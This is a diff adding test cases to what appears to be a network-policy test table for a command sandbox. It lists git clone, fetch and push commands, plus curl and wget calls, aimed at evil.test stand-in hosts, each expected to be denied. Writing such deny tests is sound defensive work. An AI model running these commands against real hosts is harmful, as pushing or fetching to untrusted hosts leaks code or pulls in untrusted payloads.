@@ -209,6 +209,11 @@ HOSTS = [
     (NET, "bash", "curl https://EVIL.TEST./", "deny"),
     (NET, "bash", "wget -q https://cdn.evil.test/x.sh", "deny"),
     (NET, "bash", "http POST evil.test/api a=1", "deny"),
+    (NET, "bash", "git clone https://evil.test/r", "deny"),
+    (NET, "bash", "git clone --depth 1 git@evil.test:r.git", "deny"),
+    (NET, "bash", "git fetch ssh://git@evil.test/r main", "deny"),
+    (NET, "bash", "git push https://x.evil.test/r HEAD", "deny"),
+    (NET, "bash", "git fetch origin && git push origin main", "allow"),
     (NET, "bash", "curl https://ok.test/", "allow"),
     (NET, "bash", "http :3000/health", "allow"),
 ]
